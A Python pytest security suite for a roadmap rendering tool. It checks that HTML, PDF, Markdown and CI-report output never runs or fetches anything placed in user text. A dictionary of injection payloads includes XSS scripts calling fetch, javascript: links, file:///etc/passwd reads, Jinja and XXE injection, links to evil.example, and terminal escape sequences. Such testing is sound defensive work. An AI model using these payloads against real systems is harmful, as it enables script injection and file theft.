"""Texts that want to be more than text: nothing of them runs, is fetched, or steers a terminal."""

import io
import json
import re
import socket
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from lxml import etree, html

from cop_roadmap import canvas
from tests.browser import Browser, Look
from tests.test_cli import names_in, run
from tests.test_reporters_text import obeyed_in

Listener = tuple[socket.socket, str]

ATTACKS = {
    "script": "<script>fetch('{0}');console.log('owned')</script>",
    "script that closes what is open": (
        "\"'--></title></style></textarea></script></table>]]><script src='{0}'></script>"
    ),
    "event handler": "<img src='{0}' onerror='console.log(1)'><b onmouseover=alert(1)>x</b>",
    "attribute": '" onfocus="console.log(\'owned\')" autofocus x="',
    "javascript link": "[a](javascript:console.log('owned')) <javascript:alert(1)>",
    "javascript link in disguise": "[a](java&#10;script:alert(1)) [b](&#106;avascript:alert(1))",
    "data link": "[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml,<svg/>)",
    "file link": "[a](file:///etc/passwd) ![b](file:///etc/passwd) [c](//evil.example)",
    "picture": "![a]({0}) ![a][b]\n\n[b]: {0}",
    "drawing": "<svg onload='fetch(`{0}`)'><image href='{0}'/><use href='{0}#a'/></svg>",
    "style": "<style>@import url({0}); body {{ background: url({0}) }}</style>",
    "style of an element": "<p style='background: url({0})'>x</p>",
    "frame": "<iframe src='{0}'></iframe><object data='{0}'></object><embed src='{0}'>",
    "refresh": "<meta http-equiv=refresh content='0; url={0}'><link rel=stylesheet href='{0}'>",
    "base and form": "<base href='{0}'><form action='{0}'><button autofocus>x</button></form>",
    "remark": "<!-- <![CDATA[ <?php echo 1 ?> <% x %> --> <!doctype html>",
    "style sheet's string": '"; }} body {{ background: url("{0}") }} x {{ content: "',
    "Jinja": "{{{{ 7*'7' }}}} {{% include '/etc/passwd' %}} {{# x #}} {{{{ self.__class__ }}}}",
    "front matter": "---\ntitle: owned\n---\n\n+++\nx = 1\n+++",
    "table": "a | b\n---|---\n<b>c</b> | `|` \\| d\n\n| |\n|-|",
    "Mermaid": 'x; click a href "javascript:alert(1)"\n```mermaid\ngraph TD\n```\n%%{{init}}%%',
    "markup of rich": "[red]x[/red] [link={0}]x[/link] [/] :bee: [blink]",
    "commands of GitHub": (
        "::error file=a::owned\n::set-output name=x::y\n%0A::warning::x\n##[error]x"
    ),
    "XML": "]]></failure><failure message='x'>&xxe;<!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
}


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Listen on a socket of this machine; who connects can be seen."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        host, port = server.getsockname()
        yield server, f"http://{host}:{port}/x"


def assert_nobody_called(server: socket.socket) -> None:
    with pytest.raises(BlockingIOError):
        server.accept()


def full_of(text: str) -> dict[str, Any]:
    """Return a roadmap in which the text stands wherever there can be one."""
    action = {"action": text, "responsible": [text], "status": "in_progress", "due": "2026-10-15"}
    section = {
        "answer": text,
        "timeline": {"month_1": [action, text], "month_2": text},
        "responsible": [text],
        "resources": [text],
    }
    return {
        "community": {
            "name": text,
            "summary": text,
            "sponsor": text,
            "facilitator": text,
            "start": "2026-09",
        },
        "document": {"footer": text[:100]},
        "sections": {"vision": section, "results": section},
        "ambitions": dict.fromkeys(canvas.AMBITION_KEYS, text),
        "creation": {"pilot_and_launch": {"pilot": {"answer": text, "done": True}}},
        "reviews": [{"date": "2026-10-15", "by": [text], "ratings": {"vision": 2}, "note": text}],
    }


def rendered(directory: Path, text: str, kinds: str) -> list[Path]:
    """Make all documents of a roadmap that is full of a text."""
    (directory / "it.yaml").write_text(json.dumps(full_of(text)))
    person = f"--responsible={text}"
    for options in (["full"], ["summary"], ["period"], ["person", person]):
        made = run(
            *("render", "it.yaml", "--as-of", "2026-10-20", "--to", kinds, "--view", *options),
            cwd=directory,
        )
        assert made.code == 0, made.err
        assert not obeyed_in(made.err) - {"\n"}
    (directory / "it.yaml").unlink()
    paths = [directory / name for name in names_in(directory)]
    assert len(paths) == 4 * len(kinds.split(","))
    return paths


each_attack = pytest.mark.parametrize("name", ATTACKS)


@pytest.mark.slow
@each_attack
def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(
    name: str, browser: Browser, listener: Listener, tmp_path: Path
) -> None:
    server, address = listener
    for page in rendered(tmp_path, ATTACKS[name].format(address), "html"):
        # Without its policy, so that the browser would do what it can.
        text = page.read_text("utf-8")
        bare = re.sub('<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
        assert bare != text
        page.write_text(bare, "utf-8")
        seen = browser(page, Look())
        assert (seen["loaded"], seen["said"], seen["dead"]) == ([page.as_uri()], [], [])
    assert_nobody_called(server)


@pytest.mark.slow
def test_the_browser_and_the_socket_see_what_does_run(
    browser: Browser, listener: Listener, tmp_path: Path
) -> None:
    server, address = listener
    page = tmp_path / "page.html"
    page.write_text(f"<!doctype html><title>x</title>{ATTACKS['script'].format(address)}")
    seen = browser(page, Look())
    assert "owned" in seen["said"]
    assert address in seen["loaded"]
    caller, _ = server.accept()
    caller.close()


@each_attack
def test_a_page_holds_only_tags_of_the_templates(name: str, tmp_path: Path) -> None:
    """What a text adds to a page are the few tags of Markdown, without attributes but addresses."""
    pages = rendered(tmp_path, ATTACKS[name].format("http://evil.example/x"), "html")
    for page in pages:
        tree = html.fromstring(page.read_bytes())
        for element in tree.iter():
            assert not any(key.startswith("on") or key == "style" for key in element.keys())  # noqa: SIM118
            for key in ("src", "href", "action", "data"):
                address = element.get(key, "#")
                assert re.match("#|https?://|mailto:", address), address
            assert element.tag not in ("iframe", "object", "embed", "base")
        assert len(tree.findall(".//form")) <= 1  # the filter
        assert len(tree.findall(".//script")) <= 1
        assert len(tree.findall(".//style")) == 1
        assert len(tree.findall(".//meta[@http-equiv]")) == 1


@pytest.mark.slow
@each_attack
def test_a_pdf_holds_links_and_nothing_else_that_acts(
    name: str, listener: Listener, tmp_path: Path
) -> None:
    server, address = listener
    for path in rendered(tmp_path, ATTACKS[name].format(address), "pdf"):
        with pikepdf.open(io.BytesIO(path.read_bytes())) as pdf:
            assert not {"/OpenAction", "/AA", "/AcroForm"} & set(pdf.Root.keys())
            for item in pdf.objects:
                if isinstance(item, pikepdf.Dictionary) and "/S" in item and "/URI" in item:
                    assert re.match("https?://|mailto:", str(item.URI))
                kinds = ("/JavaScript", "/Launch", "/GoToR", "/SubmitForm", "/ImportData")
                assert not isinstance(item, pikepdf.Dictionary) or item.get("/S") not in kinds
    assert_nobody_called(server)


@pytest.mark.slow
@each_attack
def test_markdown_shows_texts_as_texts(
    name: str, tool: Callable[[str], str], tmp_path: Path
) -> None:
    """Even a reader that lets raw HTML through has none to let through."""
    text = ATTACKS[name].format("http://evil.example/x")
    for path in rendered(tmp_path, text, "md"):
        assert path.read_text("utf-8").startswith("# ")
        done = subprocess.run(
            [tool("cmark-gfm"), "--unsafe", "-e", "table", "-e", "strikethrough", str(path)],
            capture_output=True,
            check=True,
        )
        tree = html.fromstring(done.stdout)
        allowed = {
            *("div", "p", "a", "em", "strong", "code", "pre", "del", "br", "hr", "blockquote"),
            *("h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "input"),
            *("table", "thead", "tbody", "tr", "th", "td"),
        }
        tags = {element.tag for element in tree.iter()}
        assert tags <= allowed
        for element in tree.iter("a"):
            assert re.match("#|https?://|mailto:", element.get("href", ""))
        if name == "Jinja":
            assert "7*'7'" in "".join(map(str, tree.itertext()))


@each_attack
def test_a_template_in_a_text_is_not_filled(name: str, tmp_path: Path) -> None:
    for path in rendered(tmp_path, ATTACKS[name].format("http://evil.example/x"), "md,html"):
        content = path.read_text("utf-8")
        assert "7777777" not in content
        assert "root:" not in content


# ── where findings go ────────────────────────────────────────────────────────────────────────────

GITHUB_LINE = r"::(error|warning|notice) title=[a-z0-9-]+,file=it\.yaml[,:]|[^:#]|$"
STEERING = "\x1b[31m\x1b]0;owned\x07\x9b31m\u202e\u2066\u200b\x00\x08\r"


def broken(text: str) -> str:
    """Return a file in which a text stands in every finding that there can be."""
    word = json.dumps(text)
    return (
        f"community: {{name: Bees, {word}: x, start: {word}, language: {word}}}\n"
        f"{word}: x\n"
        f"sections: {{{word}: x, vision: {{timeline: {{{word}: x, month_1: {{action: a, "
        f"status: {word}, due: {word}}}}}}}}}\n"
        f"reviews: [{{date: {word}, ratings: {{{word}: 3}}}}]\n"
        f"lint: {{ignore: {{{word}: x}}}}\n"
        f"document: {{logo: {word}, colours: {{ink: {word}}}}}\n"
    )


@pytest.mark.parametrize("name", [*ATTACKS, "codes of terminals"])
@pytest.mark.parametrize("raw", [False, True], ids=["by codes", "raw"])
@pytest.mark.parametrize("reports", ["text", "github", "json", "sarif", "junit", "gitlab"])
def test_no_finding_is_more_than_text(name: str, reports: str, raw: bool, tmp_path: Path) -> None:
    text = ATTACKS.get(name, STEERING).format("http://evil.example/x")
    content = broken(text)
    if raw:
        content = content.replace(json.dumps(STEERING), f'"{STEERING}"')
    (tmp_path / "it.yaml").write_bytes(content.encode("utf-8", "surrogatepass"))
    result = run("validate", "it.yaml", "--format", reports, cwd=tmp_path)
    assert (result.code, result.err) == (1, "")
    assert not obeyed_in(result.out) - {"\n"}
    match reports:
        case "github":
            for line in result.out.splitlines():
                assert re.match(GITHUB_LINE, line), line
        case "junit":
            (suite,) = etree.fromstring(result.out.encode()).iter("testsuite")
            assert {each.tag for each in suite.iter()} <= {
                *("testsuite", "testcase", "failure", "properties", "property", "system-out"),
            }
        case "json" | "sarif" | "gitlab":
            assert json.loads(result.out)


@pytest.mark.parametrize(
    "arguments",
    [
        ["status", "it.yaml"],
        ["status", "it.yaml", "--format", "md"],
        ["render", "it.yaml", "--to", "md", "-o", "-", "--view", "person"],
        ["next", "it.yaml"],
        ["translated", "it.yaml"],
        ["rules", STEERING],
        ["render", STEERING.replace("\x00", "")],
        ["validate", "it.yaml", "--words", STEERING.replace("\x00", "")],
        ["render", "it.yaml", "--language", STEERING],
        ["render", "it.yaml", "--to", STEERING],
        ["render", "it.yaml", "--period", STEERING],
        ["init", "--name", STEERING],
        [STEERING],
    ],
    ids=lambda arguments: " ".join(arguments)[:30].encode("unicode_escape").decode(),
)
def test_no_command_lets_a_terminal_be_steered(arguments: list[str], tmp_path: Path) -> None:
    names = ["Ann\u202e", "[red]Ben[/red]", "Cay\u2066"]
    roadmap = full_of("x")
    roadmap["sections"]["vision"]["responsible"] = names
    roadmap["sections"]["vision"]["timeline"]["month_1"][0]["action"] = names[0]
    (tmp_path / "it.yaml").write_text(json.dumps(roadmap, ensure_ascii=False))
    result = run(*arguments, cwd=tmp_path)
    assert "Traceback" not in result.err
    # A document is what was asked for, with the text as it is.
    is_document = arguments[0] == "next" or "-o" in arguments
    said = result.err if is_document and not result.code else result.out + result.err
    assert not obeyed_in(said) - {"\n"}
